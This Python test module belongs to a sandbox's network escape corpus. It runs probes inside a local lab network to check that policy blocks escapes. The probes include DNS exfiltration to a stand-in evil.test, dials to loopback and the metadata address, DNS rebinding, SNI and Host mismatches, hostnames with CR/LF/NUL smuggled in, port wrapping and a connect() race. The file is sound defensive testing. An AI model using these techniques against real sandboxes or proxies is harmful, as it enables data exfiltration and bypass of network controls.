"""Rows 25-37 of the escape corpus (network policy) and the network rows
found while building them (38 on).

Every row runs inside ONE small internet, tests/netlab's Lab, made on first
use and closed in ctx.cleanup: the control runs in the lab's client
namespace unconfined, the sandboxed run is the adapter's command line for
the row's Policy, run in the same namespace (porta's own namespaces are made
below it; the lab's /etc/resolv.conf names the lab's logging resolver, so no
--dns-upstream is needed).  Nothing here sends a packet anywhere but
loopback and the lab's namespaces.

Evidence is only what the lab saw: bytes and connections at its servers and
canaries, the queries its fake upstream logged, its network configuration.
The one exception is row 25's audit check, which is porta's own promise and
is judged only under porta.

The probe is tests/integration/netprobe.py (the same client the
integration tests drive), wrapped by PRELUDE below: it prints PROBE-STARTED,
and where no proxy is announced (the control, or a sandbox that serves none)
a step meant for the proxy goes straight to its target, so that the
unconfined run of the same steps escapes.
"""

import ipaddress
import json
import os
import subprocess
import sys
import time

from corpus import *  # noqa: F401,F403  (the runner's vocabulary)

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(REPO, "tests", "netlab"))
import netlab  # noqa: E402

PY = "/usr/bin/python3"
with open(os.path.join(REPO, "tests", "integration", "netprobe.py")) as _f:
    NETPROBE = _f.read()

# --------------------------------------------------------------------------
# The probe: netprobe's steps, plus direct fall-backs and a few raw ops

PRELUDE = r'''
import ctypes, errno, json, os, socket, ssl, struct, sys, urllib.parse
print("PROBE-STARTED", flush=True)
np = {"__name__": "netprobe"}
exec(compile(sys.argv[1], "netprobe", "exec"), np)
steps = json.loads(sys.argv[2])
if len(sys.argv) > 3:
    ctypes.CDLL(None).prctl(15, sys.argv[3].encode()[:15], 0, 0, 0)
b = np["b"]

def have(var):
    return bool(os.environ.get(var) or os.environ.get(var.lower()))

def split_hp(t):
    t = b(t)
    host, _, port = t.rpartition(b":")
    return host.decode("latin-1").strip("[]"), int(port)

def naive(name):
    # what a C proxy that stops at the first control byte would dial
    for ch in "\r\n\x00":
        name = name.split(ch)[0]
    return name

def utf8(name):
    try:
        return b(name).decode("utf-8")
    except UnicodeDecodeError:
        return name

def direct(step):
    # the proxy step's target, dialled without any proxy (as a forward
    # proxy would: each request head to the host its URI names)
    if "request" in step:
        body = ""
        for head in b(step["request"]).split(b"\r\n\r\n"):
            if not head:
                continue
            u = urllib.parse.urlsplit(head.split(b" ")[1].decode("latin-1"))
            s = np["connect"](u.hostname, u.port or 80)
            s.sendall(head + b"\r\n\r\n")
            data = np["recv_all"](s, timeout=2).decode("latin-1")
            body += np["body_of"](data)
        return {"ok": bool(body), "body": body}
    if step["op"] == "socks":
        host, port = utf8(naive(step["target"])), step["port"]
    else:
        host, port = split_hp(naive(step["target"]))
        host = utf8(host)
        port &= 0xffff       # a C client's htons()
    s = np["connect"](host, port)
    if step.get("pipeline_hex"):
        s.sendall(bytes.fromhex(step["pipeline_hex"]))
    res = {"ok": True}
    if step.get("then"):
        np["after_tunnel"](s, step, res)
    else:
        res["data"] = np["recv_all"](s, timeout=1).decode("latin-1")
    return res

def op_relay_direct(step):
    s = np["connect"](step["target"], step["port"])
    t = np["tls_over"](s, step["target"], step.get("cafile"))
    resp = np["http_get"](t, step["target"])
    return {"ok": True, "status": resp.split("\r\n", 1)[0]}

def op_rawdns(step):
    # one DNS message built from parts: qname_hex (wire labels), qtype, qclass
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    q += bytes.fromhex(step["qname_hex"]) + struct.pack(">HH", step.get("qtype", 1), step.get("qclass", 1))
    server, port = step.get("server", "198.51.100.53"), step.get("port", 53)
    if step.get("transport", "udp") == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(step.get("wait", 2.0))
        s.sendto(q, (server, port))
        msg = s.recv(65535)
    else:
        s = socket.create_connection((server, port), timeout=step.get("wait", 2.0))
        pre = bytes.fromhex(step.get("prefix_hex", ""))
        s.sendall(pre + struct.pack(">H", len(q)) + q)
        msg = np["recv_all"](s, timeout=step.get("wait", 2.0))[2:]
    return {"ok": True, "rcode": msg[3] & 0xF if len(msg) > 3 else None}

def op_dnsmany(step):
    # several length-prefixed queries pipelined on one TCP connection
    s = socket.create_connection((step.get("server", "198.51.100.53"), 53), timeout=2)
    out = b""
    for name in step["names"]:
        q = np["dns_query"](name, step.get("qtype", "A"))
        out += struct.pack(">H", len(q)) + q
    s.sendall(out)
    got = np["recv_all"](s, timeout=2)
    return {"ok": True, "bytes_back": len(got)}

def op_bindconnect(step):
    # bind (optionally to a device / transparently) before connect
    fam = socket.AF_INET6 if ":" in step["host"] else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    res = {}
    if step.get("device"):
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, step["device"].encode())
            res["bindtodevice"] = "ok"
        except OSError as e:
            res["bindtodevice"] = np["err"](e)
    if step.get("transparent"):
        try:
            s.setsockopt(socket.SOL_IP, 19, 1)   # IP_TRANSPARENT
            res["transparent"] = "ok"
        except OSError as e:
            res["transparent"] = np["err"](e)
    if step.get("bind"):
        try:
            s.bind((step["bind"], 0))
            res["bind"] = "ok"
        except OSError as e:
            res["bind"] = np["err"](e)
    s.connect((step["host"], step["port"]))
    s.sendall(b(step.get("send", "x")))
    res["ok"] = True
    res["data"] = np["recv_all"](s, timeout=1).decode("latin-1")
    return res

def op_listen(step):
    # a server inside: does anything outside reach it within `wait` seconds?
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", step["port"]))
    s.listen(4)
    print("LISTENING", flush=True)
    s.settimeout(step.get("wait", 4))
    try:
        c, peer = s.accept()
        c.sendall(b"inside-listener\n")
        c.close()
        return {"ok": True, "peer": peer[0]}
    except OSError as e:
        return {"ok": False, "error": np["err"](e)}

def op_udpsend(step):
    # datagrams to broadcast, multicast and link-local destinations
    fam = socket.AF_INET6 if ":" in step["host"] else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    addr = (step["host"], step["port"])
    if fam == socket.AF_INET6:
        addr = socket.getaddrinfo(step["host"], step["port"], fam, socket.SOCK_DGRAM)[0][4]
    n = s.sendto(b(step.get("send", "x")), addr)
    return {"ok": True, "sent": n}

def op_ping(step):
    r = __import__("subprocess").run(["ping", "-c", "1", "-W", "1", step["host"]],
                                     capture_output=True, text=True)
    return {"ok": r.returncode == 0, "rc": r.returncode}

results = []
for step in steps:
    op = step["op"]
    try:
        if op in ("proxy", "socks") and not have("HTTPS_PROXY" if op == "proxy" else "ALL_PROXY"):
            res = direct(step)
        elif op == "relay" and not have("HTTPS_PROXY"):
            res = op_relay_direct(step)
        elif op in ("rawdns", "dnsmany", "bindconnect", "listen", "udpsend", "ping"):
            res = globals()["op_" + op](step)
        else:
            res = np["OPS"][op](step)
    except Exception as e:  # every failure is a result
        res = {"ok": False, "error": np["err"](e)}
    res["op"] = op
    results.append(res)
print(json.dumps({"pid": os.getpid(), "results": results}), flush=True)
'''


def probe_argv(steps, comm=None):
    return [PY, "-c", PRELUDE, NETPROBE, json.dumps(steps)] + ([comm] if comm else [])


def probe_results(run):
    for line in reversed(run.stdout.splitlines()):
        if line.startswith('{"pid"'):
            try:
                return json.loads(line)
            except ValueError:
                return None
    return None


# --------------------------------------------------------------------------
# The small internet

TLS = "203.0.113.11"        # allowed.test, other.test (one shared certificate)
WEB = "203.0.113.10"        # web.allowed.test:80
WWW = "203.0.113.33"        # www.allowed.test:443 (*.allowed.test certificate)
ZZZ = "203.0.113.34"        # z.allowed.test:443
REB = "203.0.113.20"        # rebind.allowed.test's public answer
EVIL = "203.0.113.66"       # evil.test: HTTP :80, TLS :443
DNS = netlab.DNS_ADDR
OTHER_RESOLVER = "203.0.113.53"
CLIENT = netlab.CLIENT_V4
LOOKALIKE = "www.\u0430llowed.test"    # Cyrillic a

RECORDS = {
    "allowed.test": TLS, "other.test": TLS, "web.allowed.test": WEB, "www.allowed.test": WWW,
    "z.allowed.test": ZZZ, "evil.test": EVIL, "*.evil.test": EVIL, "evilallowed.test": EVIL,
    LOOKALIKE.encode("idna").decode(): EVIL,
    "loop.allowed.test": "127.0.0.1", "meta.allowed.test": "169.254.169.254",
    "private.allowed.test": "10.1.2.3", "cgnat.allowed.test": "100.64.0.1",
    "self.allowed.test": CLIENT, "mapped.allowed.test": "::ffff:127.0.0.1",
    "loop6.allowed.test": "::1",
    # row 46: IPv6 spellings that carry a denied IPv4 address
    "nat64.allowed.test": "64:ff9b::7f00:1", "sixtofour.allowed.test": "2002:7f00:1::1",
    "teredo.allowed.test": "2001:0:4136:e378:8000:63bf:80ff:fffe",
    "compat.allowed.test": "::7f00:1",
    "fc.allowed.test": "fd00::1", "ll6.allowed.test": "fe80::1",
}
REBIND = {"rebind.allowed.test": [REB, "127.0.0.1"]}

CANARIES = [("127.0.0.1", 443), ("127.0.0.1", 80), ("127.0.0.1", 18080), (CLIENT, 443),
            (CLIENT, 18080), ("169.254.169.254", 443), ("10.1.2.3", 443), ("100.64.0.1", 443),
            (TLS, 80), (TLS, 22), (TLS, 8443), (EVIL, 18080), (WWW, 291), ("127.0.0.1", 53)]
CANARIES6 = [("::1", 443), ("::1", 18080), ("64:ff9b::7f00:1", 443), ("2002:7f00:1::1", 443),
             ("2001:0:4136:e378:8000:63bf:80ff:fffe", 443), ("::7f00:1", 443),
             ("fd00::1", 443)]
UDP_CANARIES = [(TLS, 443), (DNS, 5353), ("0.0.0.0", 5999)]

def populate(lab):
    """The servers (NET.servers), canaries and DNS records of the run's lab."""
    S = {}
    S["tls"] = lab.server_tls(TLS, 443, names=["allowed.test", "other.test"], label="tls allowed")
    S["web"] = lab.server_http(WEB, 80, label="web allowed")
    S["www"] = lab.server_tls(WWW, 443, names=["*.allowed.test", "allowed.test"], label="tls www")
    S["zzz"] = lab.server_tls(ZZZ, 443, names=["z.allowed.test"], label="tls z")
    S["reb"] = lab.server_tls(REB, 443, names=["rebind.allowed.test"], label="tls rebind")
    S["evil_http"] = lab.server_http(EVIL, 80, label="evil http")
    S["evil_tls"] = lab.server_tls(EVIL, 443, names=["evil.test", "allowed.test", "*.evil.test"],
                                   label="evil tls")
    for addr, port in CANARIES + (CANARIES6 if lab.ipv6 else []):
        S[f"canary {netlab._hostport(addr, port)}"] = lab.canary(addr, port)
    for addr, port in UDP_CANARIES:
        S[f"udp {netlab._hostport(addr, port)}"] = lab.canary(addr, port, proto="udp",
                                                              side="internet")
    if lab.ipv6:
        S["udp [::]:5999"] = lab.canary("::", 5999, proto="udp", side="internet")
    lab.dns(RECORDS, ttl=30, rebind=REBIND)
    lab.dns(RECORDS, ttl=30, rebind=REBIND, addr=OTHER_RESOLVER)
    return S


# One lab for the whole run; rows add servers of their own to NET.servers.
NET = netlab.SharedLab(populate)


def get_lab(ctx):
    """The lab, made once per run and closed with it (None and the reason if
    this host cannot make one, or making it failed)."""
    try:
        lab = NET.get()
    except (netlab.LabUnavailable, netlab.LabDidNotStart) as e:
        return None, str(e)
    if NET.close not in ctx.cleanup:
        ctx.cleanup.append(NET.close)
    return lab, None


# --------------------------------------------------------------------------
# Running a check: control and sandbox, each judged from the lab alone

def lab_run(ctx, lab, argv, timeout=60, env=None):
    return ctx.execute(lab.command(argv, cwd=ctx.root), timeout=timeout, env=env)


def sandboxed(ctx, lab, policy, argv, timeout=60, env=None):
    return ctx.sandboxed(policy, argv, wrap=lab.command([], cwd=ctx.root)[:-1] + ["--"],
                         timeout=timeout, env=env)


def reached(lab, *names):
    """Evidence: bytes or connections at the named servers (keys of S)."""
    S = NET.servers
    got = {}
    for n in names:
        h, by = lab.hits(S[n]), lab.bytes_received(S[n])
        if h or by:
            got[n] = f"{h} conn/{by} B"
    return got


def any_canary(lab):
    return lab.canary_hits()


def unprepared(names, why):
    return [could_not_prepare(n, why) for n in names]


class NetCheck:
    """One check: steps (or an argv) run as the control and sandboxed, and
    evidence(lab, mode, run) -> (escaped, detail) read from the lab.  env:
    the environment both runs get (default ctx.env())."""

    def __init__(self, name, policy, steps=None, evidence=None, argv=None, comm=None,
                 control_steps=None, control_na=None, timeout=60, before=None, env=None):
        self.name, self.policy, self.steps, self.evidence = name, policy, steps, evidence
        self.argv, self.comm, self.control_steps = argv, comm, control_steps
        self.control_na, self.timeout, self.before = control_na, timeout, before
        self.env = env


def run_check(ctx, lab, c: NetCheck, keep=None):
    runs = {}
    verdict = {}
    for mode in ("control", "sandbox"):
        lab.reset()
        if c.before:
            c.before(mode)
        if c.argv is not None:
            argv = c.argv(mode) if callable(c.argv) else c.argv
        else:
            steps = c.control_steps if (mode == "control" and c.control_steps) else c.steps
            steps = steps(mode) if callable(steps) else steps
            argv = probe_argv(steps, c.comm)
        if mode == "control":
            run = lab_run(ctx, lab, argv, timeout=c.timeout, env=c.env)
        else:
            try:
                run = sandboxed(ctx, lab, c.policy, argv, timeout=c.timeout, env=c.env)
            except NotOffered as e:
                return not_offered(c.name, str(e))
        runs[mode] = run
        verdict[mode] = c.evidence(lab, mode, run)
    if keep is not None:
        keep.update(runs)
    (c_esc, c_det), (s_esc, s_det) = verdict["control"], verdict["sandbox"]
    detail = s_det if (s_esc or c_esc) else f"control: {c_det}"
    return judge(c.name, c_esc, s_esc, runs["sandbox"], detail, control_na=c.control_na)


def servers_evidence(*names, canaries=False):
    def ev(lab, mode, run):
        got = reached(lab, *names)
        if canaries:
            got.update({f"canary {k}": v for k, v in any_canary(lab).items()})
        return bool(got), (f"reached: {got}" if got else "nothing reached")
    return ev


def canary_evidence(*keys):
    """The named canaries (S keys) or, with no keys, any canary."""
    def ev(lab, mode, run):
        if keys:
            got = reached(lab, *keys)
        else:
            got = any_canary(lab)
        return bool(got), (f"canary reached: {got}" if got else "no canary reached")
    return ev


def queries_evidence(pred, what):
    def ev(lab, mode, run):
        qs = [q for q in lab.queries() if pred(q)]
        seen = [f"{q['name']}/{q['type']}/{q['transport']}" for q in qs][:4]
        return bool(qs), (f"the upstream saw {len(qs)} {what}: {seen}" if qs
                          else f"the upstream saw no {what}")
    return ev


def with_lab(ctx, names, build):
    lab, why = get_lab(ctx)
    if lab is None:
        return unprepared(names, why)
    return build(lab)


def allow(*rules, audit=None):
    return Policy(allow_net=list(rules), audit=audit)


def tag(ctx, mode, label):
    """A name label unique to this run and mode (so the upstream log of a
    control is never mistaken for the sandbox's)."""
    return f"{label}-{mode[:3]}-{ctx.nonce[:8]}"


# --------------------------------------------------------------------------
# Rows 25-37 (tests/escapes/README.md)

@row(25, "ports no rule opens are refused (and audited with the dialling pid)",
     "--allow-net allowed.test:443 [--audit FILE]")
def row25(ctx):
    names = [f"allowed.test:{p} refused" for p in (80, 22, 8443)] + ["each refusal audited with its pid"]

    def build(lab):
        checks = []
        audit = os.path.join(ctx.fresh("r25-audit"), "audit.jsonl")
        pol = allow("allowed.test:443", audit=audit if ctx.adapter.name == "porta" else None)
        runs_by_port = {}
        for port in (80, 22, 8443):
            keep = {}
            steps = [{"op": "tcp", "host": "allowed.test", "port": port, "send": "hello\n"}]
            checks.append(run_check(ctx, lab, NetCheck(
                f"allowed.test:{port} refused", pol, steps,
                servers_evidence(f"canary {TLS}:{port}"), comm="probe-r25"), keep=keep))
            runs_by_port[port] = keep
        if ctx.adapter.name != "porta":
            checks.append(Check(names[-1], NA, "-", "porta's audit promise: judged under porta only"))
            return checks
        # porta's audit: one deny record per refused destination naming the
        # pid the probe saw itself as (the sandbox's PID namespace)
        recs = []
        try:
            with open(audit) as f:
                recs = [json.loads(l) for l in f if l.strip()]
        except (OSError, ValueError) as e:
            recs = []
        missing = []
        for port, keep in runs_by_port.items():
            res = probe_results(keep["sandbox"]) if "sandbox" in keep else None
            pid = res and res["pid"]
            dst = f"{TLS}:{port}"
            if not any(r.get("kind") == "connect" and r.get("dst") == dst and r.get("verdict") == "deny"
                       and r.get("pid") == pid and r.get("comm") == "probe-r25" for r in recs):
                missing.append(f"{dst} (pid {pid})")
        ctl = all(c.control == "escaped" for c in checks)
        sbx = runs_by_port[22].get("sandbox")
        checks.append(judge(names[-1], ctl, bool(missing), sbx,
                            f"refusals missing from the audit: {missing}" if missing
                            else f"{len(runs_by_port)} refusals audited with pid and comm"))
        return checks
    return with_lab(ctx, names, build)


@row(26, "UDP out in policy mode (QUIC to 443, a resolver on a non-53 port)",
     "--allow-net allowed.test:443")
def row26(ctx):
    quic = "\xc3\x00\x00\x00\x01" + "\x00" * 40
    specs = [("QUIC datagram to allowed.test:443", [{"op": "udp", "host": TLS, "port": 443, "send": quic}],
              f"udp {TLS}:443"),
             ("connected UDP to allowed.test:443", [{"op": "udp", "host": TLS, "port": 443, "send": quic,
                                                     "connect": True}], f"udp {TLS}:443"),
             ("DNS to a resolver on port 5353", [{"op": "dns", "server": DNS, "port": 5353,
                                                  "name": "udp.evil.test", "wait": 1}], f"udp {DNS}:5353")]

    def build(lab):
        return [run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"), steps, servers_evidence(key)))
                for n, steps, key in specs]
    return with_lab(ctx, [s[0] for s in specs], build)


@row(27, "DNS exfiltration: <data>.evil.test never reaches the upstream",
     "--allow-net allowed.test:443")
def row27(ctx):
    specs = [("UDP A query", {"qtype": "A"}), ("TCP/53 query", {"transport": "tcp"}),
             ("TXT query", {"qtype": "TXT"}), ("ANY query", {"qtype": "ANY"}),
             ("query to another resolver address", {"server": OTHER_RESOLVER}),
             ("getaddrinfo through resolv.conf", None)]

    def build(lab):
        checks = []
        for n, extra in specs:
            label = "x" + n.split()[0].lower().replace("/", "")

            def steps(mode, extra=extra, label=label):
                name = f"{tag(ctx, mode, label)}.evil.test"
                if extra is None:
                    return [{"op": "resolve", "name": name}]
                return [dict({"op": "dns", "server": DNS, "name": name, "wait": 2}, **extra)]
            checks.append(run_check(ctx, lab, NetCheck(
                n, allow("allowed.test:443"), steps,
                queries_evidence(lambda q: "evil.test" in (q["name"] or "").lower(), "evil.test queries"))))
        return checks
    return with_lab(ctx, [s[0] for s in specs], build)


@row(28, "allowed names resolving to denied addresses; a rebinding name",
     "--allow-net *.allowed.test:443")
def row28(ctx):
    names = [("loop.allowed.test", "canary 127.0.0.1:443"),
             ("meta.allowed.test", "canary 169.254.169.254:443"),
             ("private.allowed.test", "canary 10.1.2.3:443"),
             ("cgnat.allowed.test", "canary 100.64.0.1:443"),
             ("self.allowed.test", f"canary {CLIENT}:443"),
             ("mapped.allowed.test", "canary 127.0.0.1:443"),
             ("loop6.allowed.test", "canary [::1]:443")]

    def build(lab):
        checks = []
        for n, canary in names:
            if canary.endswith("[::1]:443") and not lab.ipv6:
                checks.append(Check(n, NA, "-", "no IPv6 in the lab"))
                continue
            steps = [{"op": "tcp", "host": n, "port": 443, "send": "\x16\x03\x01\x00"},
                     {"op": "proxy", "target": f"{n}:443", "then": "raw", "send_hex": "16030100"},
                     {"op": "socks", "target": n, "port": 443, "then": "raw", "send_hex": "16030100"},
                     {"op": "tls", "host": TLS, "port": 443, "sni": n, "verify": False}]
            checks.append(run_check(ctx, lab, NetCheck(
                f"{n} (transparent, CONNECT, SOCKS)", allow("*.allowed.test:443"), steps,
                canary_evidence())))
        steps = [{"op": "tcp", "host": "rebind.allowed.test", "port": 443, "send": "x"},
                 {"op": "proxy", "target": "rebind.allowed.test:443", "then": "raw", "send_hex": "00"}] * 3
        checks.append(run_check(ctx, lab, NetCheck(
            "rebinding name (public / 127.0.0.1, TTL 0)", allow("*.allowed.test:443"), steps,
            canary_evidence("canary 127.0.0.1:443"))))
        return checks
    return with_lab(ctx, [n for n, _ in names] + ["rebinding name"], build)


@row(29, "IP literals and alternate spellings, through the proxy and transparently",
     "--allow-net *:18080")
def row29(ctx):
    spellings = ["127.1", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0"]
    keys = ("canary 127.0.0.1:18080", "canary [::1]:18080")

    def build(lab):
        checks = []
        for sp in spellings:
            if ":" in sp and not lab.ipv6:
                checks.append(Check(sp, NA, "-", "no IPv6 in the lab"))
                continue
            host = sp.strip("[]")
            steps = [{"op": "proxy", "target": f"{sp}:18080", "then": "raw", "send_hex": "68690a"},
                     {"op": "socks", "target": host, "port": 18080, "then": "raw", "send_hex": "68690a"},
                     {"op": "proxy", "request": f"GET http://{sp}:18080/ HTTP/1.1\r\nHost: {sp}:18080\r\n\r\n"},
                     {"op": "tcp", "host": host, "port": 18080, "send": "hi\n"}]
            checks.append(run_check(ctx, lab, NetCheck(
                f"{sp}:18080", allow("*:18080"), steps,
                canary_evidence(*[k for k in keys if lab.ipv6 or "::" not in k]))))
        return checks
    return with_lab(ctx, spellings, build)


@row(30, "SNI names an allowed host, the program dialled an evil address",
     "--allow-net allowed.test:443")
def row30(ctx):
    n = "TLS to evil's address with SNI allowed.test"

    def build(lab):
        steps = [{"op": "tls", "host": EVIL, "port": 443, "sni": "allowed.test", "cafile": lab.ca_file}]
        return [run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"), steps,
                                             servers_evidence("evil_tls")))]
    return with_lab(ctx, [n], build)


@row(31, "CONNECT to an allowed host, then a ClientHello naming another",
     "--allow-net allowed.test:443")
def row31(ctx):
    specs = [("CONNECT allowed.test:443 then SNI other.test", "proxy"),
             ("SOCKS allowed.test:443 then SNI other.test", "socks"),
             ("transparent to allowed.test's address with SNI other.test", "tls")]

    def sni_other(lab, mode, run):
        seen = [r for r in lab.requests(NET.servers["tls"]) if r.get("sni") == "other.test"]
        return bool(seen), (f"the shared server saw SNI other.test {len(seen)}x" if seen
                            else "no ClientHello naming other.test arrived")

    def build(lab):
        ca = lab.ca_file
        out = []
        for n, op in specs:
            if op == "proxy":
                st = {"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "other.test", "cafile": ca}
            elif op == "socks":
                st = {"op": "socks", "target": "allowed.test", "port": 443, "then": "tls", "sni": "other.test",
                      "cafile": ca}
            else:
                st = {"op": "tls", "host": TLS, "port": 443, "sni": "other.test", "cafile": ca}
            out.append(run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"), [st], sni_other)))
        return out
    return with_lab(ctx, [s[0] for s in specs], build)


@row(32, "TLS without SNI, HTTP without Host, two Host headers",
     "--allow-net allowed.test:443 --allow-net web.allowed.test:80")
def row32(ctx):
    pol = allow("allowed.test:443", "web.allowed.test:80")
    specs = [("TLS without SNI to allowed.test's address",
              [{"op": "hello", "sni": None, "host": TLS, "port": 443}], "tls"),
             ("HTTP without Host to web.allowed.test's address",
              [{"op": "tcp", "host": WEB, "port": 80, "send": "GET / HTTP/1.0\r\n\r\n"}], "web"),
             ("HTTP with two Host headers (allowed, evil)",
              [{"op": "tcp", "host": WEB, "port": 80,
                "send": "GET / HTTP/1.1\r\nHost: web.allowed.test\r\nHost: evil.test\r\n\r\n"}], "web"),
             ("HTTP with Host evil.test first, allowed second",
              [{"op": "tcp", "host": WEB, "port": 80,
                "send": "GET / HTTP/1.1\r\nHost: evil.test\r\nHost: web.allowed.test\r\n\r\n"}], "web")]

    def build(lab):
        return [run_check(ctx, lab, NetCheck(n, pol, steps, servers_evidence(key)))
                for n, steps, key in specs]
    return with_lab(ctx, [s[0] for s in specs], build)


@row(33, "suffix and spelling tricks against *.allowed.test", "--allow-net *.allowed.test:443")
def row33(ctx):
    refused = ["evilallowed.test", "allowed.test.evil.test", LOOKALIKE, "www.allowed.test.evil.test."]

    def build(lab):
        pol = allow("*.allowed.test:443")
        checks = []
        for n in refused:
            enc = n.encode("utf-8").decode("latin-1")
            steps = [{"op": "proxy", "target": enc + ":443", "then": "tls", "sni": "evil.test",
                      "verify": False},
                     {"op": "socks", "target": enc, "port": 443, "then": "raw", "send_hex": "160301"},
                     {"op": "tls", "host": enc, "port": 443, "sni": "evil.test", "verify": False}]
            if n == LOOKALIKE:
                steps = steps[:2]    # getaddrinfo will not take raw UTF-8 (the control escapes by proxy)
            checks.append(run_check(ctx, lab, NetCheck(
                f"{n.encode('unicode_escape').decode()}", pol, steps, servers_evidence("evil_tls"))))
        # a port past 65535 that a 16-bit parser would wrap to 443
        steps = [{"op": "proxy", "target": "z.allowed.test:65979", "then": "raw", "send_hex": "160301"},
                 {"op": "proxy", "request": "GET http://z.allowed.test:65979/ HTTP/1.1\r\n"
                  "Host: z.allowed.test:65979\r\n\r\n"}]
        checks.append(run_check(ctx, lab, NetCheck(
            "z.allowed.test:65979 (wraps to 443 in 16 bits)", pol, steps, servers_evidence("zzz"))))
        return checks
    return with_lab(ctx, refused + ["port overflow"], build)


@row(34, "the proxy reached for loopback services of the host",
     "--allow-net *:18080 --allow-net *.allowed.test:443")
def row34(ctx):
    targets = ["127.0.0.1:18080", "localhost:18080", "loop.allowed.test:18080", f"{CLIENT}:18080",
               "[::1]:18080", "127.0.0.1:443", "self.allowed.test:443"]

    def build(lab):
        pol = allow("*:18080", "*.allowed.test:443")
        checks = []
        for t in targets:
            if t.startswith("[") and not lab.ipv6:
                checks.append(Check(t, NA, "-", "no IPv6 in the lab"))
                continue
            host, port = t.rsplit(":", 1)
            steps = [{"op": "proxy", "target": t, "then": "raw", "send_hex": "68690a"},
                     {"op": "socks", "target": host.strip("[]"), "port": int(port), "then": "raw",
                      "send_hex": "68690a"},
                     {"op": "proxy", "request": f"GET http://{t}/ HTTP/1.1\r\nHost: {t}\r\n\r\n"}]
            checks.append(run_check(ctx, lab, NetCheck(f"CONNECT/SOCKS/GET {t}", pol, steps,
                                                       canary_evidence())))
        return checks
    return with_lab(ctx, targets, build)


@row(35, "the sandbox reconfigures its own network", "--allow-net allowed.test:443")
def row35(ctx):
    names = ["the lab's network unchanged", "ip/route/link changes refused inside"]
    changes = [["addr", "add", "10.9.9.9/32", "dev", "lo"],
               ["route", "add", "10.9.9.0/24", "dev", "lo"],
               ["link", "add", "portaesc0", "type", "dummy"]]
    undo = [["addr", "del", "10.9.9.9/32", "dev", "lo"], ["route", "del", "10.9.9.0/24", "dev", "lo"],
            ["link", "del", "portaesc0"]]

    def build(lab):
        def state():
            out = []
            for args in (["-o", "addr"], ["route", "show", "table", "all"], ["-o", "link"]):
                out.append(lab.run(["ip"] + args).out)
            return out
        base = {}

        def before(mode):
            base[mode] = state()

        def outside(lab_, mode, run):
            changed = state() != base[mode]
            for u in undo:
                lab.run(["ip"] + u)
            return changed, ("the lab's network changed" if changed else "the lab's network is unchanged")

        steps = [{"op": "ip", "args": a} for a in changes]
        why = None if ctx.is_root else ("unprivileged, the control holds no CAP_NET_ADMIN over the "
                                        "lab's namespace: nothing to compare with")
        c1 = run_check(ctx, lab, NetCheck(names[0], allow("allowed.test:443"), steps, outside,
                                          before=before, control_na=why))

        def inside(lab_, mode, run):
            res = probe_results(run)
            ok = [r for r in (res or {}).get("results", [])[:len(changes)] if r.get("ok")]
            for u in undo:
                lab.run(["ip"] + u)
            return bool(ok), (f"{len(ok)} of {len(changes)} changes took effect" if ok
                              else "every change refused")
        c2 = run_check(ctx, lab, NetCheck(names[1], allow("allowed.test:443"), steps, inside,
                                          control_na=why))
        return [c1, c2]
    return with_lab(ctx, names, build)


@row(36, "a relay inside re-issuing CONNECTs; SOCKS names with CR/LF/NUL",
     "--allow-net allowed.test:443")
def row36(ctx):
    names = ["evil.test\\r\\nallowed.test", "evil.test\\x00allowed.test", "relay re-issuing CONNECT evil.test"]

    def build(lab):
        pol = allow("allowed.test:443")
        checks = []
        for n in ("evil.test\r\nallowed.test", "evil.test\x00allowed.test"):
            steps = [{"op": "socks", "target": n, "port": 443, "then": "tls", "sni": "allowed.test",
                      "verify": False},
                     {"op": "proxy", "target": n + ":443", "then": "tls", "sni": "allowed.test",
                      "verify": False}]
            checks.append(run_check(ctx, lab, NetCheck(n.encode("unicode_escape").decode(), pol, steps,
                                                       servers_evidence("evil_tls"))))
        steps = [{"op": "relay", "target": "evil.test", "port": 443, "cafile": lab.ca_file}]
        checks.append(run_check(ctx, lab, NetCheck(names[2], pol, steps, servers_evidence("evil_tls"))))
        return checks
    return with_lab(ctx, names, build)


@row(37, "bytes pipelined before the decision", "--allow-net allowed.test:443 --allow-net allowed.test:80")
def row37(ctx):
    get = "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode().hex()
    early = ("17030300" + "20" + "41" * 32) * 4
    specs = [("CONNECT evil.test:443 + a pipelined hello",
              [{"op": "proxy", "target": "evil.test:443", "pipeline_hex": "16030100" + "00" * 60}], "evil_tls"),
             ("CONNECT evil.test:80 + a pipelined GET",
              [{"op": "proxy", "target": "evil.test:80", "pipeline_hex": get}], "evil_http"),
             ("SOCKS evil.test:443 + pipelined bytes",
              [{"op": "socks", "target": "evil.test", "port": 443, "pipeline_hex": get}], "evil_tls"),
             ("ClientHello for evil.test + early data to its address",
              [{"op": "hello", "sni": "evil.test", "host": EVIL, "port": 443, "early_hex": early}], "evil_tls")]

    def build(lab):
        pol = allow("allowed.test:443", "allowed.test:80")
        return [run_check(ctx, lab, NetCheck(n, pol, steps, servers_evidence(key)))
                for n, steps, key in specs]
    return with_lab(ctx, [s[0] for s in specs], build)


# --------------------------------------------------------------------------
# Rows 38 on: network escape attempts found while building rows 25-37

@row(38, "race the connect() watch: flip the port after the supervisor looked",
     "--allow-net allowed.test:443")
def row38(ctx):
    n = "connect() with a sockaddr flipped between :443 and :22 by a second thread"

    def build(lab):
        argv = [ctx.probe("net_race"), TLS, "443", "22", "400"]

        def ev(lab_, mode, run):
            got = reached(lab, f"canary {TLS}:22")
            return bool(got), (f"the refused port was reached: {got}" if got
                               else "nothing reached :22 in 400 rounds and a second")
